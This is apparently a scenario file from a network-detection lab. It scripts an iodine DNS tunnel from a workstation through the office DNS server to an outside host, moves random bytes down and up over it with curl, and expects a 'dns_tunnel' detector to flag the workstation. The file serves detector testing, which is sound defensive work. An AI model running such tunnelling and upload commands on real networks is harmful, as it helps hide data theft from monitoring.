"""iodine through the office's DNS server."""
import random

import services
from catalogue import TUNNEL_DOMAIN, TUNNEL_SERVER

TITLE = "A DNS tunnel"
START = "2026-11-24 15:20:00"
STORY = """A workstation makes ordinary look-ups; then it runs iodine through the office's DNS server to a server outside and moves 25 kB down and 12 kB up
inside the queries and answers."""
EXPECT = [{"detector": "dns_tunnel", "attacker": "pc-labo"}]
ALLOWED = []


def run(lab):
    services.dns_and_dhcp(lab.gateway, dhcp=False)
    inet, pc = lab.internet, lab.host("pc-labo")
    services.outside(lab, form=True)
    inet.start("iodined", "-f", "-c", "-l", TUNNEL_SERVER, "-P", "lab-tunnel", "172.30.0.1", TUNNEL_DOMAIN)
    inet.wait_port(53, "udp")
    lab.record()
    for name in ("www.meteo.example", "www.journal.example", "api.banque.example", "deb.debian.org"):
        pc.run("curl", "-s", "-o", "/dev/null", f"http://{name}/", check=False)
        lab.skip(20)
    pc.start("iodine", "-f", "-r", "-P", "lab-tunnel", "-I", "10", lab.gateway.ip, TUNNEL_DOMAIN)
    for _ in range(60):
        if "172.30.0" in pc.run("ip", "-4", "-o", "addr"):
            break
        lab.pause(0.5)
    inet.file("www/butin.bin", random.Random(3).randbytes(25_000))
    pc.run("curl", "-s", "-m", "60", "-o", "/dev/null", "http://172.30.0.1/butin.bin", timeout=70)
    up = pc.file("up.bin", random.Random(4).randbytes(12_000))
    pc.run("curl", "-s", "-m", "60", "-o", "/dev/null", "-H", "Expect:", "--data-binary", f"@{up}", "http://172.30.0.1/connexion", check=False, timeout=70)
